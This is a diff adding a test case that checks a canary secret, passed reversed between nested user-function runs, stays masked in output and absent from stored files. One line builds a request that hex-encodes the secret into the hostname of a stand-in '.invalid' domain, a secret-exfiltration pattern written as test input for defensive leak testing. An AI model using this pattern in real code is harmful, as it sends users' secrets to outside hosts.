@@ -185,6 +185,31 @@ Object.assign(cases, {
       assert.equal(denied.status, 3, denied.all);
       assert.deepEqual(canary.inFiles(folder), []);
     },
+  "revealed to one run, it is not shown by those that it runs, nor by the one that ran it": async () => {
+    const fetching = "tried(lambda: get('https://' + key.encode().hex() + '.invalid/'))";
+    const blind = (body) => python(body).replace(/key = fused\.secrets.*/, "");
+    const udfs = {
+      // One is told the value, turned around, as a parameter; the other one gives it away like that.
+      told: blind(`key = key[::-1]; ${fetching}; return [cached(key)['text'], key]`).replace(
+        "FOLDER: str)",
+        "FOLDER: str, key: str)",
+      ),
+      seeing: python("return key[::-1]"),
+    };
+    for (const [name, code] of Object.entries(udfs)) writeFileSync(join(folder, "udfs", `${name}.py`), code);
+    for (const source of [
+      python("return fused.run('told', A=A, B=B, FOLDER=FOLDER, key=key[::-1])"),
+      blind(
+        `key = fused.run('seeing', A=A, B=B, FOLDER=FOLDER)[::-1]; ${fetching}; return [cached(key)['text'], key]`,
+      ),
+    ]) {
+      const result = await run("py", source, [...REVEAL, "--cache-max-age=1h"]);
+      assert.equal(result.status, 0, result.all);
+      assert.match(result.all, /\[secret CANARY\]/);
+      assert.deepEqual(canary.in(result.all), [], result.all);
+    }
+    assert.deepEqual(canary.inFiles(folder), []);
+  },
   "control: revealed, it gets out turned around, to another server and into storage, and the search finds it":
     async () => {
       const body =
